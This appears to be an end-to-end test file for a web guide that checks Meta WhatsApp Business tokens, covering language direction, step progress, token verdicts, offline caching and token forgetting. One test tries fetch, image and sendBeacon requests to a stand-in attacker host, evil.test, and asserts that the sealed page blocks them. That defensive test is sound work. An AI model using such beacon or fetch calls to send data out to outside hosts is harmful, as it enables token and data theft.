// The main journeys through the release, the same for every engine: a name, and what happens on a stage.

import assert from "node:assert/strict";
import { account, ofAccount, ofPhone, ofToken, phone } from "../rows.mjs";
import { randomToken } from "../token.mjs";
import { GRAPH } from "./stage.mjs";

const APP = "https://app.test/";
const STEPS = [1, 2, 3, 4, 5, 6, 7];
const GOOD = { ...ofToken, ...ofAccount(account()), ...ofPhone(phone()) };

/** A language, and the side on which its lines begin. */
const languages = { en: "ltr", ar: "rtl" };

/** A world, and what is said of a token in it. */
const answers = {
  good: ["ready"],
  "missing-permission": ["not-ready", "permission.whatsapp_business_messaging", "fail/missing"],
  expired: ["not-ready", "token.valid", "fail/expired"],
};

export const journeys = {
  ...Object.fromEntries(
    Object.entries(languages).map(([language, direction]) => [
      `the start screen stands in ${language}, its lines ${direction}`,
      async (t, stage) => {
        const visit = await stage.visit(t, `${APP}?lang=${language}`);
        await visit.see('main[data-screen="start"] [data-action="next"]');
        const look = await visit.run(() => {
          const [list] = document.querySelectorAll("[data-step]");
          const { left, right } = list.getBoundingClientRect();
          return {
            language: document.documentElement.lang,
            direction: getComputedStyle(document.querySelector("main h1")).direction,
            heading: document.querySelector("main h1").textContent,
            begins: left < innerWidth - right ? "ltr" : "rtl",
          };
        });
        assert.equal(look.language, language);
        assert.equal(look.direction, direction);
        assert.match(look.heading, language === "ar" ? /\p{Script=Arabic}{3}/u : /[a-z]{3}/);
      },
    ]),
  ),

  "seven steps, one after the other, and their ticks are there after a reload": async (t, stage) => {
    const visit = await stage.visit(t, APP);
    await visit.see('main[data-screen="start"]');
    for (const step of STEPS) {
      await visit.press("next");
      await visit.see(`main[data-screen="step-${step}"]`);
      await visit.click('main .tick input[type="checkbox"]');
    }
    await visit.press("next");
    await visit.see('main[data-screen="finish"]');
    await visit.reload();
    await visit.screen("start");
    assert.deepEqual(await visit.steps(), Array(STEPS.length).fill("done"));
  },

  ...Object.fromEntries(
    Object.entries(answers).map(([world, [overall, check, row]]) => [
      `a pasted token, ${world}: ${overall}`,
      async (t, stage) => {
        const checked = await stage.checked(t, world);
        assert.equal(checked.overall, overall);
        if (check) await checked.visit.assertRow(check, row);
        else assert.deepEqual(await checked.visit.rows(), GOOD);
        const calls = await stage.graph.calls();
        assert.ok(calls.length > 0 && calls.every(({ headers }) => headers.origin === "https://app.test"));
      },
    ]),
  ),

  "Meta out of reach is said to be, and a second check works when it is back": async (t, stage) => {
    stage.excuse(/CORS request did not succeed/);
    stage.proxy.cut(GRAPH);
    t.after(() => stage.proxy.mend(GRAPH));
    const { visit, overall } = await stage.checked(t, "good");
    assert.equal(overall, "unproved");
    await visit.assertRow("connection", "fail/blocked");
    assert.equal((await stage.graph.calls()).length, 0);
    stage.proxy.mend(GRAPH);
    await visit.press("check-again");
    await visit.see('main [data-overall="ready"]');
  },

  "a token that is forgotten is gone: nothing more can be asked with it": async (t, stage) => {
    const { visit, token } = await stage.checked(t, "good");
    await visit.see('main [data-action="check-again"]');
    await visit.press("forget");
    await visit.see('main [data-action="check"]');
    assert.equal(await visit.field(), "");
    const left = await visit.run(() =>
      JSON.stringify([document.documentElement.outerHTML, { ...localStorage }, { ...sessionStorage }, history.state]),
    );
    assert.ok(!left.includes(token.slice(0, 12)));
    await visit.reload();
    await visit.see("html[data-seal=sealed]");
    assert.equal(await visit.field(), "");
  },

  "practice runs a whole check and asks nobody": async (t, stage) => {
    await stage.graph.world("good", randomToken());
    const visit = await stage.visit(t, `${APP}#/practice`);
    await visit.click('[data-case="missing-permission"] [data-action="practise"]');
    await visit.press("use-practice-token");
    await visit.press("check");
    assert.equal(await visit.verdict(), "not-ready");
    await visit.assertRow("permission.whatsapp_business_messaging", "fail/missing");
    assert.deepEqual(await stage.graph.log(), []);
  },

  "a sealed page reaches nobody but Meta": async (t, stage) => {
    stage.excuse(/elsewhere\.test|evil\.test|app\.test\/(?:config\.json|assets\/picture)|NetworkError/);
    const visit = await stage.visit(t, APP);
    const reaches = (address) =>
      visit.run(
        (address) =>
          fetch(address, { mode: "no-cors", cache: "reload" }).then(
            () => true,
            () => false,
          ),
        address,
      );
    const own = `${APP}config.json`;
    assert.equal(await reaches(own), true, "an open page reaches its own host: this test can tell");
    // What the worker still fetches for itself would look like something of the page's.
    await visit.until(() => navigator.serviceWorker.ready.then(() => true));
    await visit.screen("step-4");
    await visit.see('html[data-seal=sealed] input[data-field="token"]');
    const since = stage.hosts.log.length;
    await visit.press("try-seal");
    await visit.see('[data-tried="pass"]');
    for (const address of [own, "https://elsewhere.test/", "https://evil.test/"]) {
      assert.equal(await reaches(address), false, address);
    }
    await visit.run(() => {
      for (const source of ["https://evil.test/picture.png", "/assets/picture.png"]) new Image().src = source;
      navigator.sendBeacon?.("https://evil.test/beacon", "x");
    });
    await visit.screen("step-5");
    const names = ["app.test", "elsewhere.test", "evil.test"];
    assert.deepEqual(
      stage.hosts.log.slice(since).filter(({ host }) => names.includes(host)),
      [],
    );
  },

  "the address #/share shows snippets that follow the choices, and a preview": async (t, stage) => {
    // The hash of nothing: Firefox says so of the preview that another one replaces before it has come.
    stage.excuse(/computed hash is “OLBgp1GsljhM2TJ\+sbHjaiH9txEUvgdDTAzHv2P24donTt6\/529l\+9Ua0vFImLlb”/);
    const visit = await stage.visit(t, `${APP}#/share`);
    await visit.see('[data-snippet="copy-element"]');
    await visit.run(() => {
      const list = document.querySelector("#share-language");
      list.value = "ar";
      list.dispatchEvent(new Event("change", { bubbles: true }));
    });
    for (const [snippet, part] of Object.entries({
      "copy-link": "lang=ar",
      "copy-element": 'lang="ar"',
      "copy-frame": "lang=ar",
    })) {
      const text = await visit.run((name) => document.querySelector(`[data-snippet="${name}"]`).textContent, snippet);
      assert.ok(text.includes(part), `${snippet}: ${text}`);
    }
    await visit.run(() => document.querySelector(".share__preview").scrollIntoView());
    const preview = await visit.inside(() => document.querySelector(".share__preview"));
    // The preview of before may still stand there.
    await preview.see("html[lang=ar] main[data-screen]");
    assert.deepEqual(
      await preview.run(() => [document.documentElement.lang, document.documentElement.dir, self.origin]),
      ["ar", "rtl", "null"],
    );
  },

  "the worker keeps the guide for times without a network": async (t, stage) => {
    // Firefox says so of a file that is still on its way when a page is left. What does not come at all is missed below.
    stage.excuse(/A ServiceWorker intercepted the request/);
    const visit = await stage.visit(t, APP);
    await visit.until(() => navigator.serviceWorker.ready.then(() => true));
    await visit.reload();
    await visit.until(() => navigator.serviceWorker.controller !== null);
    stage.proxy.cut("app.test");
    t.after(() => stage.proxy.mend("app.test"));
    const since = stage.hosts.log.length;
    const began = performance.now();
    await visit.reload();
    await visit.see('main[data-screen="start"]');
    t.diagnostic(`the start screen came after ${Math.round(performance.now() - began)} ms with the host cut off`);
    await visit.go(`${APP}?lang=ar#/step/4`);
    await visit.see('html[lang=ar][data-seal=sealed] input[data-field="token"]');
    assert.deepEqual(
      stage.hosts.log.slice(since).filter(({ host }) => host === "app.test"),
      [],
    );
  },
};
